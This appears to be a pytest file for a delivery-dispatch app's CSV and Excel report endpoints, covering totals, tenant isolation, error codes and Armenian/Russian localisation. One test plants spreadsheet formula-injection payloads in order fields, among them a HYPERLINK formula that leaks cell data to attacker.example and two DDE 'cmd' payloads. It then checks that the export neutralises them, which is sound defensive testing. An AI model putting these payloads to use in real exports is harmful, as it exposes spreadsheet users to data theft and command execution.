"""GET /reports/{kind}.csv|.xlsx and /reports/summary (docs/reports.md): the hand-counted day of
test_reports.py, read over HTTP by a dispatcher of the company, and nobody else's."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from appliance.dispatch.models import Order, User
from appliance.dispatch.reports import service
from appliance.dispatch.words import report_texts
from tests.dispatch.factory import make_company, make_member
from tests.dispatch.orders_helpers import create_order
from tests.dispatch.test_reports import build_day

RANGE = "from=2026-11-20&to=2026-11-21"


def test_the_summary_gives_the_hand_counted_figures_of_the_day(
    dispatch_app, dispatch_client, company, dispatcher
) -> None:
    build_day(dispatch_app, company)
    answer = dispatch_client.get(f"/reports/summary?{RANGE}", headers=dispatcher.headers)
    assert answer.status_code == 200, answer.text
    summary = answer.get_json()
    # 40 + 30 delivered; 10 + 10 failed; on time 20 + 20 of 30 + 30 delivered with a window.
    assert (summary["from"], summary["to"]) == ("2026-11-20", "2026-11-21")
    assert (summary["deliveries"], summary["failures"], summary["onTimeRate"]) == (70, 20, 0.6667)
    by_name = {c["courier"]: c for c in summary["couriers"]}
    assert by_name["Արամ"]["averagePickupToDeliveryMinutes"] == 30.0
    assert by_name["Boris"]["failuresByReason"] == {"recipient_absent": 10}


def test_the_csv_and_xlsx_reports_stream_every_order_with_armenian_intact(
    dispatch_app, dispatch_client, company, dispatcher
) -> None:
    build_day(dispatch_app, company)
    answer = dispatch_client.get(f"/reports/orders.csv?{RANGE}", headers=dispatcher.headers)
    assert answer.status_code == 200, answer.text
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="orders-2026-11-20-2026-11-21.csv"'
    assert answer.data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert rows[0][0] == "order" and len(rows) == 1 + 100
    assert {row[rows[0].index("recipient")] for row in rows[1:]} == {"Անի Պետրոսյան"}

    sheet = dispatch_client.get(f"/reports/cash.xlsx?{RANGE}", headers=dispatcher.headers)
    assert sheet.status_code == 200, sheet.text
    assert sheet.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = CalamineWorkbook.from_filelike(io.BytesIO(sheet.data))
    cells = book.get_sheet_by_index(0).to_python()
    # Collections: the 20 orders with i % 10 in (0, 1), all delivered, 5,000 AMD each; then the one
    # handover (the dispatcher reads Armenian, the accounts' default language).
    assert len(cells) == 1 + 20 + 1
    amount = cells[0].index("Գումար")
    assert sum(row[amount] for row in cells[1:] if row[amount] != "") == 100_000


def test_another_companys_dispatcher_sees_none_of_the_day(dispatch_app, dispatch_client, company) -> None:
    build_day(dispatch_app, company)
    other = make_member(dispatch_app, make_company("Other"), "dispatcher")
    summary = dispatch_client.get(f"/reports/summary?{RANGE}", headers=other.headers).get_json()
    assert (summary["deliveries"], summary["couriers"]) == (0, [])
    rows = dispatch_client.get(f"/reports/orders.csv?{RANGE}", headers=other.headers).data
    assert rows.decode("utf-8-sig").strip().count("\n") == 0  # the header alone


def test_bad_ranges_kinds_and_callers_get_problems(dispatch_client, dispatcher, courier) -> None:
    get = dispatch_client.get
    assert get(f"/reports/orders.csv?{RANGE}").status_code == 401
    assert get(f"/reports/orders.csv?{RANGE}", headers=courier.headers).status_code == 403
    for query in (
        "from=2026-11-21&to=2026-11-20",
        "from=2026-11-20&to=2026-11-20",
        "from=2025-01-01&to=2026-11-20",
    ):
        answer = get(f"/reports/summary?{query}", headers=dispatcher.headers)
        assert answer.status_code == 422, (query, answer.text)
        assert answer.mimetype == "application/problem+json"
    for query in ("from=2026-11-20", "from=yesterday&to=2026-11-21", ""):
        assert get(f"/reports/orders.xlsx?{query}", headers=dispatcher.headers).status_code == 400, query
    assert get(f"/reports/payouts.csv?{RANGE}", headers=dispatcher.headers).status_code == 400


HOSTILE_NAME = '=HYPERLINK("https://attacker.example/?leak="&E3&F3,"Open")'


def _today_range() -> str:
    from appliance.common import clock
    from appliance.dispatch.reports.service import YEREVAN

    day = clock.now().astimezone(YEREVAN).date()
    return f"from={day.isoformat()}&to={(day + dt.timedelta(days=1)).isoformat()}"


def test_a_formula_typed_as_a_recipient_name_is_text_in_the_xlsx_and_neutralised_in_the_csv(
    dispatch_client, dispatcher
) -> None:
    create_order(
        dispatch_client,
        dispatcher,
        recipientName=HOSTILE_NAME,
        externalRef="@SUM(1+1)*cmd|' /C calc'!A0",
        addressLabelHy="-2+3+cmd|' /C calc'!A0",
    )
    query = _today_range()
    sheet = dispatch_client.get(f"/reports/orders.xlsx?{query}", headers=dispatcher.headers)
    assert sheet.status_code == 200, sheet.text
    rows = list(load_workbook(io.BytesIO(sheet.data)).active.iter_rows())
    header = [c.value for c in rows[0]]
    # The workbook's headers are in the dispatcher's language: looked up by the column codes.
    codes = {report_texts.header(code, "hy"): code for code in service.ORDER_COLUMNS}
    order = {codes[name]: cell for name, cell in zip(header, rows[1], strict=True)}
    recipient = order["recipient"]
    # The real file: the cell is text holding the name as typed, never a formula.
    assert (recipient.data_type, recipient.value) == ("s", HOSTILE_NAME)
    assert (order["external_ref"].data_type, order["address_hy"].data_type) == ("s", "s")
    assert order["amount_amd"].data_type == "n" and order["amount_amd"].value == 5000

    answer = dispatch_client.get(f"/reports/orders.csv?{query}", headers=dispatcher.headers)
    assert answer.status_code == 200, answer.text
    table = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    row = dict(zip(table[0], table[1], strict=True))
    assert row["recipient"] == "'" + HOSTILE_NAME  # OWASP: a leading quote makes it text
    assert row["external_ref"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["address_hy"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["amount_amd"] == "5000"


def test_a_control_character_in_a_recipient_name_does_not_break_the_xlsx(dispatch_client, dispatcher) -> None:
    """XML cannot hold most C0 control characters: openpyxl refused the whole workbook (a 500 for
    every report of the range, caused by one order). They are dropped from the cell instead. The API
    refuses such names now (issue 41 item 6): the order stands for one stored by an older version."""
    order = create_order(dispatch_client, dispatcher, recipientName="Ani Petrosyan")
    Order.update(recipient_name="Ani\x01 Petrosyan\x1b").where(Order.id == int(order["id"])).execute()
    sheet = dispatch_client.get(f"/reports/orders.xlsx?{_today_range()}", headers=dispatcher.headers)
    assert sheet.status_code == 200, sheet.text
    rows = list(load_workbook(io.BytesIO(sheet.data)).active.iter_rows(values_only=True))
    assert rows[1][rows[0].index(report_texts.header("recipient", "hy"))] == "Ani Petrosyan"


def test_the_workbook_reads_in_the_users_language_with_real_dates_and_one_amount_format(
    dispatch_app, dispatch_client, company, dispatcher
) -> None:
    """Issue 46: headers were English codes, statuses raw, dates text and amounts written three
    ways. The workbook for a Russian reader: Russian headers and statuses, date cells, amounts as
    numbers in the one Russian format; the cash report's amounts sum to what was collected."""
    User.update(language="ru").where(User.id == dispatcher.user.id).execute()
    build_day(dispatch_app, company)
    sheet = dispatch_client.get(f"/reports/orders.xlsx?{RANGE}", headers=dispatcher.headers)
    rows = list(load_workbook(io.BytesIO(sheet.data)).active.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[:3] == ["Заказ", "Номер магазина", "Создан"]
    first = dict(zip(header, rows[1], strict=True))
    assert first["Создан"].is_date and first["Создан"].value == dt.datetime(2026, 11, 20, 9, 0)
    assert first["Создан"].number_format == "dd.mm.yyyy hh:mm"
    assert first["Сумма"].data_type == "n" and first["Сумма"].number_format == '#,##0 "драм"'
    statuses = {dict(zip(header, r, strict=True))["Статус"].value for r in rows[1:]}
    assert statuses == {"доставлен", "не доставлен", "отменён"}
    reasons = {dict(zip(header, r, strict=True))["Причина недоставки"].value for r in rows[1:]}
    assert reasons == {None, "получателя нет на месте", "неверный адрес"}

    cash = dispatch_client.get(f"/reports/cash.xlsx?{RANGE}", headers=dispatcher.headers)
    table = list(load_workbook(io.BytesIO(cash.data)).active.iter_rows(values_only=True))
    columns = {name: i for i, name in enumerate(table[0])}
    collected = [r for r in table[1:] if r[columns["Строка"]] == "получение"]
    handovers = [r for r in table[1:] if r[columns["Строка"]] == "сдача кассы"]
    assert sum(r[columns["Сумма"]] for r in collected) == 100_000
    assert sum(r[columns["Принято"]] or 0 for r in table[1:]) == 50_000  # the handover once
    assert [r[columns["Статус сдачи"]] for r in handovers] == ["подтверждено"]
